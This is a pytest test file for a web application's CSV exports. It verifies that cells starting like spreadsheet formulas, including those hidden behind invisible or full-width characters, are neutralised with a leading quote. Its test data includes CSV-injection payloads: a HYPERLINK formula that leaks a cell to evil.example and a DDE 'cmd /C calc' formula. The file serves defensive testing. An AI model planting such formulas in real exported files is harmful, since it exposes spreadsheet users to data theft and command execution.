"""ASVS V5 (output encoding): CSV files the site writes are safe to open in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula
by Excel, LibreOffice and Google Sheets (CSV injection), even behind spaces and invisible
characters (a zero width space, a byte order mark), and some read the full-width ``＝`` as ``=``.
Every such cell a manager downloads gets a leading single quote, whichever way the text reached
the site: a person's own profile, a manager setting a team, a row of an uploaded invitation file,
or a row stored before the forms refused invisible characters.

Proved elsewhere and not repeated here:

- ``tests/test_organisation_reports.py::test_csv_cells_that_would_run_as_formulas_are_neutralised``
  (names and teams stored directly, every dangerous first character, plain names untouched).
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from sqlalchemy import select

import course
from course.accounts.models import User
from course.core.spreadsheets import FORMULA_STARTS, neutralised
from course.extensions import db
from course.organisations.invitations import read_invitation_csv
from course.organisations.models import Invitation, Membership
from tests.fixtures.factories import STRONG_PASSWORD, make_user
from tests.fixtures.organisations import upload
from tests.fixtures.security_site import MANAGER, Site
from tests.fixtures.web import post_form, sign_in

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def members_csv(site: Site) -> list[list[str]]:
    response = site.clients[MANAGER].get(f"/orgs/{site.ids['organisation_id']}/members.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment")
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


def test_the_neutraliser_covers_every_character_that_starts_a_formula() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
    for text in FORMULAS:
        assert neutralised(text) == "'" + text
    assert neutralised("Sam Jones") == "Sam Jones"
    assert neutralised("") == ""


def test_every_module_that_writes_csv_neutralises_its_cells() -> None:
    package = Path(course.__file__).parent
    writers = [
        path
        for path in package.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]

    assert writers, "the members export writes CSV"
    for path in writers:
        assert "neutralised(" in path.read_text(encoding="utf-8"), path


def _join_organisation(site: Site, user: User, team: str | None = None) -> None:
    db.session.add(
        Membership(organisation_id=site.ids["organisation_id"], user_id=user.id, team=team)
    )
    db.session.commit()


def test_names_people_give_themselves_are_neutralised_in_the_export(site: Site) -> None:
    for number, formula in enumerate(FORMULAS):
        email = f"formula-name-{number}@example.org"
        with site.app.app_context():
            _join_organisation(site, make_user(email=email, name="Plain Name"))
        client = site.new_client()
        sign_in(client, email, STRONG_PASSWORD)
        response = post_form(client, "/account/profile", {"name": formula, "region": "uk"})
        assert response.status_code in (200, 302)
    with site.app.app_context():
        stored = {
            user.email: user.name
            for user in db.session.scalars(select(User).where(User.email.like("formula-name-%")))
        }

    rows = members_csv(site)

    exported = {row[1]: row[0] for row in rows[1:] if row[1] in stored}
    assert len(exported) == len(FORMULAS)
    for email, name in stored.items():
        assert not runs_as_formula(exported[email]), (name, exported[email])
        if runs_as_formula(name):
            assert exported[email] == "'" + name


def test_teams_a_manager_sets_are_neutralised_in_the_export(site: Site) -> None:
    manager = site.clients[MANAGER]
    organisation_id = site.ids["organisation_id"]
    with site.app.app_context():
        people = [
            make_user(email=f"formula-team-{number}@example.org", name=f"Teamed {number}")
            for number in range(len(FORMULAS))
        ]
        for user in people:
            _join_organisation(site, user)
        ids = [user.id for user in people]
    for user_id, formula in zip(ids, FORMULAS, strict=True):
        path = f"/orgs/{organisation_id}/members/{user_id}"
        response = post_form(manager, path, {"action": "team", "team": formula})
        assert response.status_code in (200, 302)

    rows = members_csv(site)

    teams = {row[1]: row[2] for row in rows[1:] if row[1].startswith("formula-team-")}
    assert len(teams) == len(FORMULAS) and all(teams.values())
    assert not any(runs_as_formula(team) for team in teams.values()), teams
    assert teams["formula-team-0@example.org"] == "'" + FORMULAS[0]


def test_email_addresses_that_start_like_formulas_are_neutralised(site: Site) -> None:
    with site.app.app_context():
        for local in ("=1+1", "+44", "-x"):
            _join_organisation(site, make_user(email=f"{local}@formula.example", name="Odd Email"))

    rows = members_csv(site)

    emails = [row[1] for row in rows[1:] if row[1].endswith("@formula.example")]
    assert len(emails) == 3
    assert not any(runs_as_formula(email) for email in emails), emails
    assert "'=1+1@formula.example" in emails and "'+44@formula.example" in emails


#: Text whose first visible character starts a formula, behind invisible characters or in a
#: full-width form, by the name of the case.
HIDDEN_FORMULAS = {
    "zero width space": '\u200b=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "byte order mark": "\ufeff=1+1",
    "word joiner": "\u2060+SUM(1+1)",
    "no-break space": "\u00a0-2+3",
    "ideographic space": "\u3000@SUM(1)",
    "plain space": " =1+1",
    "several invisible characters": "\u200b\ufeff \u2060=1+1",
    "invisible then tab": "\u200b\t=1+1",
    "full-width equals": "\uff1d1+1",
    "full-width plus": "\uff0bSUM(1+1)",
    "full-width hyphen-minus": "\uff0d2+3",
    "full-width commercial at": "\uff20SUM(1)",
    "zero width space then full-width equals": '\u200b\uff1dHYPERLINK("http://evil.example")',
}
#: Text with invisible or full-width characters that starts no formula, and is left alone.
HARMLESS = {
    "zero width space before a letter": "\u200bSam Jones",
    "full-width equals after a letter": "Sam\uff1dJones",
    "only invisible characters": "\u200b\ufeff",
}


@pytest.mark.parametrize("case", sorted(HIDDEN_FORMULAS) + sorted(HARMLESS))
def test_formulas_behind_invisible_characters_or_in_full_width_are_neutralised(
    site: Site, case: str
) -> None:
    text = HIDDEN_FORMULAS.get(case) or HARMLESS[case]
    email = f"{case.replace(' ', '-')}@hidden-formula.example"
    # Stored directly: whatever the forms accept today, a name or team already stored (before a
    # form refused invisible characters, say) reaches the export as it is.
    with site.app.app_context():
        _join_organisation(site, make_user(email=email, name=text), team=text)

    rows = members_csv(site)

    [row] = [row for row in rows[1:] if row[1] == email]
    expected = "'" + text if case in HIDDEN_FORMULAS else text
    assert (row[0], row[2]) == (expected, expected)


def test_the_header_row_is_safe_too(site: Site) -> None:
    header = members_csv(site)[0]
    assert header[0] == "Name" and not any(runs_as_formula(cell) for cell in header)


# The invitation file ------------------------------------------------------------------------


def _invitation_file(rows: list[tuple[str, str, str]]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["email", "name", "team"])
    writer.writerows(rows)
    return buffer.getvalue().encode()


def test_an_invitation_file_full_of_formulas_is_read_as_plain_text() -> None:
    rows = [(f"formula-{n}@example.org", formula, formula) for n, formula in enumerate(FORMULAS)]

    people, problems = read_invitation_csv(_invitation_file(rows))

    assert problems == []
    assert [person.email for person in people] == [row[0] for row in rows]
    # Runs of white space (a leading tab or CR included) fold to single spaces and are trimmed.
    for person, formula in zip(people, FORMULAS, strict=True):
        assert person.name == person.team == " ".join(formula.split())


def test_teams_from_an_invitation_file_are_neutralised_once_people_join(site: Site) -> None:
    manager = site.clients[MANAGER]
    organisation_id = site.ids["organisation_id"]
    rows = [
        (f"formula-invited-{n}@example.org", formula, formula) for n, formula in enumerate(FORMULAS)
    ]

    response = upload(manager, organisation_id, _invitation_file(rows))

    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert f"{len(FORMULAS)} people invited." in page
    with site.app.app_context():
        invitations = list(
            db.session.scalars(select(Invitation).where(Invitation.email.like("formula-invited-%")))
        )
        assert len(invitations) == len(FORMULAS)
        # Stored as given (the export, not the store, is where cells are made safe) ...
        assert {invitation.team for invitation in invitations} == {
            " ".join(formula.split()) for formula in FORMULAS
        }
        # ... and when the invited people join, their teams reach the export neutralised.
        for invitation in invitations:
            user = make_user(email=invitation.email, name=invitation.name or "Invited")
            _join_organisation(site, user, team=invitation.team)

    exported = [row for row in members_csv(site)[1:] if row[1].startswith("formula-invited-")]

    assert len(exported) == len(FORMULAS)
    for row in exported:
        assert not runs_as_formula(row[0]) and not runs_as_formula(row[2]), row
        assert row[0].startswith("'") and row[2].startswith("'")


@pytest.mark.parametrize("formula", ["=1+1", "+1", "-1", "@A1"])
def test_a_formula_in_the_email_column_is_reported_not_invited(site: Site, formula: str) -> None:
    content = _invitation_file([(formula, "Sam", "Bar")])

    response = upload(site.clients[MANAGER], site.ids["organisation_id"], content)

    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "This is not a valid email address." in page
    with site.app.app_context():
        assert db.session.scalar(select(Invitation).where(Invitation.email == formula)) is None
